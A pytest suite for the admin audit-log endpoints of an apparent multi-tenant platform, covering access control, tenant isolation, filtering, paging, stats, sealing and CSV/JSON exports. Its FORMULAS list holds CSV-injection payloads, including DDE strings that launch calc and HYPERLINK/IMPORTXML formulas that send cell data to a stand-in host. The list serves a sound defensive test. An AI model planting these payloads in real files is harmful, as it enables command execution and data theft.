"""The six endpoints: what owners and admins see, what others do not, and how it leaves."""

import csv
import io
import json
from collections.abc import Callable
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from typing import Any

import psycopg
import pytest
from factories.identity import Member, add_member, bearer
from fastapi.testclient import TestClient
from sqlalchemy import text

from agentverse import audit
from agentverse.audit import exporting, sealing
from agentverse.identity import platform_tokens
from agentverse.platform.db import engines
from agentverse.platform.db.session import TenantSession, tenant_session
from agentverse.platform.ids import new_id
from agentverse.platform.scope import Credential, Scope
from agentverse.platform.settings import Settings

LOGS = "/api/v1/admin/audit-logs"
Headers = Callable[[str], dict[str, str]]


def note(scope: Scope, *, action: str = "thing.note", **after: Any) -> None:
    with tenant_session(scope) as db:
        write(db, action=action, **after)


def write(db: TenantSession, *, action: str = "thing.note", **after: Any) -> None:
    kind = action.partition(".")[0]
    audit.record(db, action=action, resource_type=kind, resource_id=new_id(), after=after)


def listed(client: TestClient, headers: dict[str, str], **filters: Any) -> list[dict[str, Any]]:
    answer = client.get(LOGS, params=filters, headers=headers)
    assert answer.status_code == 200, answer.text
    return answer.json()["items"]


@pytest.mark.parametrize("path", ["", "/stats", "/actions", "/resource-types", "/export", "/{id}"])
@pytest.mark.parametrize(
    ("role", "status"), [("owner", 200), ("admin", 200), ("analyst", 403), ("viewer", 403)]
)
def test_only_owners_and_admins_read(
    client: TestClient, auth_headers: Headers, scope: Scope, path: str, role: str, status: int
) -> None:
    known = listed(client, auth_headers("owner"))[0]["id"]
    answer = client.get(LOGS + path.format(id=known), headers=auth_headers(role))
    assert answer.status_code == status


def test_an_entry_of_another_tenant_is_as_if_it_were_not(
    client: TestClient, auth_headers: Headers, other_headers: dict[str, str]
) -> None:
    foreign = listed(client, auth_headers("owner"))[0]["id"]
    fixed = {**other_headers, "X-Request-ID": "the-same-request"}
    found = client.get(f"{LOGS}/{foreign}", headers=fixed)
    missing = client.get(f"{LOGS}/{new_id()}", headers=fixed)
    assert (found.status_code, found.content) == (404, missing.content)
    everything = {entry["id"] for entry in listed(client, other_headers)}
    assert foreign not in everything


def test_filters_each_leave_what_they_name(
    client: TestClient, member: Member, auth_headers: Headers
) -> None:
    analyst = add_member(member, "analyst")
    seen = Credential(kind="session", address="203.0.113.9", agent="a browser")
    marked = replace(analyst.scope, request_id="0" * 32, credential=seen)
    note(marked, action="thing.mark", name="Zürich turnout, second file")
    note(member.scope, name="Zürich")
    headers = auth_headers("owner")
    (entry,) = listed(client, headers, action="thing.mark")
    assert (entry["ip"], entry["agent"]) == ("203.0.113.9", "a browser")
    moment = datetime.fromisoformat(entry["occurred_at"])
    for filters in (
        {"user_id": str(analyst.user_id)},
        {"resource_id": entry["resource_id"]},
        {"ip": "203.0.113.9"},
        {"request_id": "0" * 32},
        {"search": "0" * 32},
        {"search": "turnout"},
        {"search": "ZÜRICH second"},
        {"since": moment.isoformat(), "to": (moment + timedelta(microseconds=1)).isoformat()},
        {"resource_type": "thing", "action": "thing.mark"},
    ):
        assert listed(client, headers, **filters) == [entry], filters
    for filters in (
        {"user_id": str(new_id())},
        {"ip": "203.0.113.10"},
        {"search": "zürich third"},
        {"search": "?!"},
        {"since": (moment + timedelta(days=1)).isoformat()},
        {"to": (moment - timedelta(days=1)).isoformat()},
        {"resource_type": "thin"},
    ):
        assert listed(client, headers, **filters) == [], filters


@pytest.mark.parametrize(
    ("filters", "field"),
    [
        ({"ip": "somewhere"}, "ip"),
        ({"since": "2026-01-01T00:00:00"}, "since"),
        ({"user_id": "me"}, "user_id"),
        ({"limit": 0}, "limit"),
        ({"cursor": "x"}, "cursor"),
        ({"action": "a" * 201}, "action"),
        ({"search": "a\0b"}, "search"),
    ],
)
def test_a_filter_that_cannot_be_used_is_named(
    client: TestClient, auth_headers: Headers, filters: dict[str, Any], field: str
) -> None:
    answer = client.get(LOGS, params=filters, headers=auth_headers("owner"))
    assert answer.status_code == 422
    assert [error["field"] for error in answer.json()["errors"]] == [field]


@pytest.mark.parametrize("filters", [{}, {"search": "paged"}, {"ip": "203.0.113.9"}])
def test_pages_hold_every_entry_once_newest_first(
    client: TestClient, scope: Scope, auth_headers: Headers, filters: dict[str, str]
) -> None:
    seen = Credential(kind="session", address="203.0.113.9")
    for n in range(7):
        note(replace(scope, credential=seen), value=n, name="paged")
    headers = auth_headers("owner")
    found: list[str] = []
    cursor = None
    while True:
        page = client.get(
            LOGS,
            params={**filters, "limit": 3, "action": "thing.note", "cursor": cursor or ""}
            if cursor
            else {**filters, "limit": 3, "action": "thing.note"},
            headers=headers,
        ).json()
        assert len(page["items"]) <= 3
        found += [entry["id"] for entry in page["items"]]
        cursor = page["next_cursor"]
        if cursor is None:
            break
    assert len(found) == 7
    assert found == sorted(set(found), reverse=True)


def test_detail_shows_before_after_and_seal(
    client: TestClient, scope: Scope, auth_headers: Headers
) -> None:
    with tenant_session(scope) as db:
        audit.record(
            db,
            action="thing.rename",
            resource_type="thing",
            resource_id=None,
            before={"name": "old"},
            after={"name": "new"},
        )
    headers = auth_headers("owner")
    (entry,) = listed(client, headers, action="thing.rename")
    unsealed = client.get(f"{LOGS}/{entry['id']}", headers=headers).json()
    assert (unsealed["before"], unsealed["after"]) == ({"name": "old"}, {"name": "new"})
    assert unsealed["seal"] is None
    sealing.seal()
    sealed = client.get(f"{LOGS}/{entry['id']}", headers=headers).json()
    assert sealed["position"] == sealed["seal"]["position"] >= 2
    assert len(sealed["seal"]["chain_hash"]) == 64


def test_stats_equal_what_is_stored(
    client: TestClient, scope: Scope, other_scope: Scope, auth_headers: Headers
) -> None:
    for _ in range(3):
        note(scope)
    note(scope, action="thing.rename")
    note(other_scope)
    headers = auth_headers("owner")
    client.get(LOGS, headers=auth_headers("viewer"))
    sealing.seal()
    to = datetime.now(UTC) + timedelta(hours=1)
    window = {"since": (to - timedelta(days=2)).isoformat(), "to": to.isoformat()}
    stats = client.get(f"{LOGS}/stats", params=window, headers=headers).json()
    with tenant_session(scope) as db:
        for key, column in (
            ("by_action", "action"),
            ("by_resource_type", "resource_type"),
            ("by_outcome", "outcome"),
            ("by_actor_kind", "actor_kind"),
        ):
            raw = db.execute(text(f"SELECT {column}, count(*) FROM audit_entries GROUP BY 1")).all()
            told = {count["name"]: count["entries"] for count in stats[key]}
            assert told == {row[0]: row[1] for row in raw}, key
        total = db.scalar(text("SELECT count(*) FROM audit_entries"))
    assert stats["entries"] == total
    assert sum(day["success"] + day["denied"] for day in stats["by_day"]) == total
    assert stats["as_of"] is not None
    actions = client.get(f"{LOGS}/actions", headers=headers).json()
    assert {"name": "thing.note", "entries": 3} in actions
    types = client.get(f"{LOGS}/resource-types", headers=headers).json()
    assert {"name": "thing", "entries": 4} in types


def test_stats_of_an_impossible_time_are_refused(client: TestClient, auth_headers: Headers) -> None:
    window = {"since": "2026-02-01T00:00:00Z", "to": "2026-01-01T00:00:00Z"}
    answer = client.get(f"{LOGS}/stats", params=window, headers=auth_headers("owner"))
    assert answer.status_code == 422
    assert answer.json()["code"] == "audit_filter_invalid"


# --- the platform realm ------------------------------------------------------------------------


@pytest.fixture
def platform(settings: Settings, database: engines.Database) -> dict[str, str]:
    return {"Authorization": f"Bearer {platform_tokens.issue_to_home_owner(settings)}"}


def test_platform_realm_reads_any_tenant_and_is_seen_doing_it(
    client: TestClient, scope: Scope, platform: dict[str, str], auth_headers: Headers
) -> None:
    logs = f"/api/v1/admin/tenants/{scope.tenant_id}/audit-logs"
    note(scope, name="Ada")
    (entry,) = client.get(logs, params={"search": "ada"}, headers=platform).json()["items"]
    detail = client.get(f"{logs}/{entry['id']}", headers=platform).json()
    assert detail["after"] == {"name": "Ada"}
    for path in ("/stats", "/actions", "/resource-types"):
        assert client.get(logs + path, headers=platform).status_code == 200
    exported = client.get(f"{logs}/export", params={"format": "jsonl"}, headers=platform)
    assert any(json.loads(line)["id"] == entry["id"] for line in exported.content.splitlines())
    seen = listed(client, auth_headers("owner"), limit=200)
    by_platform = [e["action"] for e in seen if e["actor"]["kind"] == "platform"]
    assert sorted(by_platform) == ["audit.export", *["audit.read"] * 5]


def test_platform_realm_reads_the_installations_own_stream(
    client: TestClient, platform: dict[str, str]
) -> None:
    audit.record_outside_tenants(action="platform.start", resource_type="platform")
    logs = f"/api/v1/admin/tenants/{audit.INSTALLATION}/audit-logs"
    found = client.get(logs, params={"action": "platform.start"}, headers=platform).json()["items"]
    assert len(found) == 1


@pytest.mark.parametrize("path", ["", "/stats", "/export"])
def test_platform_realm_finds_no_tenant_where_there_is_none(
    client: TestClient, owner: psycopg.Connection, platform: dict[str, str], path: str
) -> None:
    nobody = new_id()
    answer = client.get(f"/api/v1/admin/tenants/{nobody}/audit-logs{path}", headers=platform)
    assert (answer.status_code, answer.json()["code"]) == (404, "audit_stream_not_found")
    owner.execute("SELECT set_config('app.tenant_id', %s, false)", (str(nobody),))
    assert owner.execute("SELECT count(*) FROM audit_entries").fetchone() == (0,)


# --- denied acts -------------------------------------------------------------------------------


def test_a_denied_act_is_recorded_though_nothing_else_is(
    client: TestClient, member: Member, auth_headers: Headers
) -> None:
    viewer = add_member(member, "viewer")
    node = new_id()
    answer = client.post(
        f"/api/v1/nodes/{node}/run", headers={**bearer(viewer), "X-Request-ID": "denied-here"}
    )
    assert answer.status_code == 403
    (entry,) = listed(client, auth_headers("owner"), request_id="denied-here")
    assert entry["outcome"] == "denied"
    assert entry["actor"] == {"kind": "user", "id": str(viewer.user_id)}
    assert entry["resource_id"] == str(node)
    detail = client.get(f"{LOGS}/{entry['id']}", headers=auth_headers("owner")).json()
    assert detail["after"] == {"method": "POST", "permission": "runs:write"}


def test_a_denied_look_at_the_audit_is_in_the_audit(
    client: TestClient, auth_headers: Headers
) -> None:
    client.get(LOGS, headers=auth_headers("analyst"))
    (entry,) = listed(client, auth_headers("owner"), action="audit.read")
    assert entry["outcome"] == "denied"


# --- export ------------------------------------------------------------------------------------

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "\ufeff=cmd|' /C calc'!A0",
    '=HYPERLINK("http://203.0.113.1/?x="&A1,"Ada")',
    "=cmd|'/C calc'!'A1'",
    "@import",
    "-2+3+cmd|' /C calc'!D2",
    '=IMPORTXML(CONCAT("http://203.0.113.1?v=", CONCATENATE(A2:E2)), "//a")',
    "\u00a0=1+1",
    "＝1+1",
    "＠SUM(A1)",
    '"=1+1',
    "';=1+1",
    ";=1+1",
    "x,\n=1+1",
]


def exported(client: TestClient, headers: dict[str, str], **parameters: str) -> bytes:
    answer = client.get(f"{LOGS}/export", params=parameters, headers=headers)
    assert answer.status_code == 200
    return answer.content


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_of_the_csv_is_a_formula(
    client: TestClient, scope: Scope, auth_headers: Headers, formula: str
) -> None:
    """In a cell of its own (the agent, which anybody can choose) and within a document."""
    seen = Credential(kind="session", agent=formula)
    note(replace(scope, credential=seen), name=formula)
    content = exported(client, auth_headers("owner"), action="thing.note")
    header, row = csv.reader(io.StringIO(content.decode(), newline=""))
    cells = dict(zip(header, row, strict=True))
    for cell in row:
        assert cell.strip(" \ufeff\u00a0")[:1] not in set("=+-@\t\r\n＝＋－＠"), cell
    assert cells["agent"] in {formula, f"'{formula}"}, "nothing is lost"
    assert json.loads(cells["after"]) == {"name": formula}


def test_export_in_each_format_holds_the_same_entries(
    client: TestClient, scope: Scope, auth_headers: Headers, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(exporting, "ROWS_PER_READ", 4)
    for n in range(9):
        note(scope, value=n, name="Ada")
    headers = auth_headers("owner")
    as_json = json.loads(exported(client, headers, format="json", action="thing.note"))
    lines = exported(client, headers, format="jsonl", action="thing.note").splitlines()
    rows = list(
        csv.DictReader(io.StringIO(exported(client, headers, action="thing.note").decode()))
    )
    assert [entry["after"]["value"] for entry in as_json] == list(range(8, -1, -1))
    assert [json.loads(line) for line in lines] == as_json
    assert [row["id"] for row in rows] == [entry["id"] for entry in as_json]
    assert [json.loads(row["after"]) for row in rows] == [entry["after"] for entry in as_json]
    assert json.loads(exported(client, headers, format="json", action="no.such")) == []


def test_export_is_recorded_with_its_filters(client: TestClient, auth_headers: Headers) -> None:
    exported(client, auth_headers("owner"), format="jsonl", action="thing.note")
    (entry,) = listed(client, auth_headers("owner"), action="audit.export")
    detail = client.get(f"{LOGS}/{entry['id']}", headers=auth_headers("owner")).json()
    assert detail["after"] == {"kind": "jsonl", "filters": {"action": "thing.note"}}


@pytest.mark.parametrize("rows", [20_000, pytest.param(1_000_000, marks=pytest.mark.long)])
def test_export_reads_ahead_no_more_than_a_page(
    owner: psycopg.Connection, scope: Scope, rows: int
) -> None:
    """Constant memory: however many rows, what Python holds at once does not grow."""
    import tracemalloc

    fill(owner, scope, rows)
    chunks = exporting.export(lambda: scope, exporting.Filters(action="bulk.note"), "csv")
    next(chunks)
    tracemalloc.start()
    try:
        size = sum(len(chunk) for chunk in chunks)
        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()
    assert size > rows * 100
    assert peak < 24 * 1024 * 1024


def fill(owner: psycopg.Connection, scope: Scope, rows: int) -> None:
    owner.execute("SELECT set_config('app.tenant_id', %s, false)", (str(scope.tenant_id),))
    owner.execute(
        "INSERT INTO audit_entries (actor_kind, actor_id, action, resource_type, outcome, after) "
        "SELECT 'user', %s, 'bulk.note', 'bulk', 'success', jsonb_build_object('value', n) "
        "FROM generate_series(1, %s) n",
        (scope.actor.id, rows),
    )
